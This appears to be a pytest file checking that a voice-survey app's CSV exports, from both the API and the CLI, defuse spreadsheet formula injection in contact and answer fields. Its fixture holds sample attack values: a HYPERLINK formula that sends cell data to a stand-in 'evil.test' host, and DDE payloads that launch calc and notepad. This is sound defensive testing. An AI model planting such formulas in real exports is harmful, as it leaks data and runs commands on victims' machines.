"""A contact list carrying spreadsheet formulas comes back defused from every CSV export.

The contacts go in through the API as a client would upload them; their calls' answers are
written into the database; the CSV is read back from the API and from `voicesurvey export`.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.reports.export import FORMULA_PREFIXES
from tests.support.cli import Invoke
from tests.support.factories import campaign_document, create_campaign, csv_body, import_csv
from tests.support.seed import execute

Sessions = async_sessionmaker[AsyncSession]

# external id -> (name, city): what an attacker would put in a contact list.
FORMULAS = {
    '=HYPERLINK("http://evil.test/?leak="&A1,"open")': ("=1+1", "+SUM(1,2)"),
    "=cmd|' /C calc'!A0": ("@SUM(1,2)", "-2+3"),
    "+SUM(1,2)": ("Ada", "=cmd|' /C notepad'!A0"),
    "@SUM(1,2)": ("Bob", "Roma"),
    "-2+3": ("Eve", "Milano"),
    "-5": ("Max", "Torino"),
}
# Per contact, in order: a number answer, a choice, a free-text comment.
ANSWERS = [(-2, "telefono", "=1+1"), (3, "email", "-2+3"), (0, "negozio", "@here")]
NUMERIC_COLUMNS = {"response_id", "contact_id", "attempt_number", "satisfaction", "children"}

_ATTEMPT_AND_RESPONSE = """
WITH a AS (
    INSERT INTO call_attempts (contact_id, campaign_id, attempt_number, status, outcome,
                               started_at, answered_at, ended_at, last_event_at)
    SELECT id, campaign_id, 1, 'completed', 'completed', now(), now(), now(), now()
    FROM contacts WHERE campaign_id = :cid AND external_id = :ext
    RETURNING id, contact_id, campaign_id
)
INSERT INTO survey_responses (call_attempt_id, contact_id, campaign_id, answers, completed)
SELECT id, contact_id, campaign_id, CAST(:answers AS jsonb), true FROM a
"""


def answer(value: Any) -> dict[str, Any]:
    return {"value": value, "raw": str(value), "confidence": 0.9, "skipped": None}


async def seed_formulas(client: httpx.AsyncClient, sessions: Sessions) -> int:
    """A campaign whose contacts carry formulas, each with a completed response."""
    questions = [
        *campaign_document()["questions"],
        {"id": "children", "type": "number", "text": "Quanti figli ha?"},
    ]
    campaign_id: int = (await create_campaign(client, questions=questions))["id"]
    rows = [
        [f"+39021234{5600 + i}", ext, name, city]
        for i, (ext, (name, city)) in enumerate(FORMULAS.items())
    ]
    body = csv_body(["phone_number", "external_id", "name", "city"], *rows)
    imported = (await import_csv(client, campaign_id, body)).json()
    assert imported["imported"] == len(FORMULAS), imported
    for i, ext in enumerate(FORMULAS):
        children, channel, comment = ANSWERS[i % len(ANSWERS)]
        answers = {
            "satisfaction": answer(7),
            "recommend": answer(True),
            "channel": answer(channel),
            "comment": answer(comment),
            "children": answer(children),
        }
        await execute(
            sessions, _ATTEMPT_AND_RESPONSE, cid=campaign_id, ext=ext, answers=json.dumps(answers)
        )
    return campaign_id


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_defused(rows: list[dict[str, str]]) -> None:
    """Every text cell that would start a formula starts with "'"; numbers stay numbers."""
    assert sorted(row["external_id"] for row in rows) == sorted(f"'{ext}" for ext in FORMULAS)
    for row in rows:
        for column, cell in row.items():
            if column in NUMERIC_COLUMNS:
                float(cell)  # a number written as a number, a negative one included
            else:
                assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
    by_comment = {row["comment"] for row in rows}
    assert by_comment == {"'=1+1", "'-2+3", "'@here"}
    assert {row["children"] for row in rows} == {"-2", "3", "0"}


async def test_the_api_csv_defuses_every_text_cell(
    client: httpx.AsyncClient, sessions: Sessions
) -> None:
    cid = await seed_formulas(client, sessions)

    masked = await client.get(f"/api/campaigns/{cid}/responses", params={"format": "csv"})
    full = await client.get(
        f"/api/campaigns/{cid}/responses", params={"format": "csv", "include_phone": "true"}
    )
    as_json = await client.get(f"/api/campaigns/{cid}/responses")

    assert masked.status_code == full.status_code == 200
    assert_defused(parse(masked.content.decode("utf-8")))
    assert "+39" not in masked.text and "phone_number" not in parse(masked.text)[0]
    full_rows = parse(full.content.decode("utf-8"))
    assert_defused(full_rows)
    assert {row["phone_number"][:4] for row in full_rows} == {"'+39"}
    # The JSON keeps every text as it was written.
    items = as_json.json()["items"]
    assert sorted(item["external_id"] for item in items) == sorted(FORMULAS)


async def test_the_cli_export_defuses_every_text_cell(
    client: httpx.AsyncClient, sessions: Sessions, voicesurvey: Invoke, tmp_path: Path
) -> None:
    cid = await seed_formulas(client, sessions)
    path = tmp_path / "responses.csv"

    # In a thread: the command runs an event loop of its own.
    to_stdout = await asyncio.to_thread(voicesurvey, "export", str(cid))
    to_file = await asyncio.to_thread(
        voicesurvey, "export", str(cid), "--include-phone", "--output", str(path)
    )

    assert to_stdout.exit_code == 0, to_stdout.stderr
    assert_defused(parse(to_stdout.stdout))
    assert to_file.exit_code == 0, to_file.stderr
    file_rows = parse(path.read_text(encoding="utf-8"))
    assert_defused(file_rows)
    assert {row["phone_number"][:4] for row in file_rows} == {"'+39"}
